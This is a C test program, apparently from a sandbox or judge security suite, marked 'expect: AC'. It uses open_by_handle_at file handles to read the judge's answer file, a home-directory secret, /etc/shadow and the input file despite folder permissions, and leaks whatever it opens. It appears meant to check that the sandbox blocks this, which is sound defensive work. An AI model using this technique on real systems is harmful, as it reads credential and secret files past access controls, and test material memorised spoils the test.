// Opens files by handles, past every folder's permissions.
// expect: AC
#include "attack.h"

static void reach(const char *path) {
    struct {
        struct file_handle head;
        char room[128];
    } handle;
    int mount;
    handle.head.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) != 0) return;
    const char *roots[] = {".", "/", "/tmp", "/proc/self/fd/1"};
    for (int i = 0; i < 4; i++) {
        int root = open(roots[i], O_RDONLY);
        if (root >= 0 && open_by_handle_at(root, &handle.head, O_RDONLY) >= 0) leak(path);
    }
}

int main(void) {
    reach("@ANSWER@");
    reach("@HOME_SECRET@");
    reach("/etc/shadow");
    reach(".");
    reach("mayan.in");
    answer();
    return 0;
}
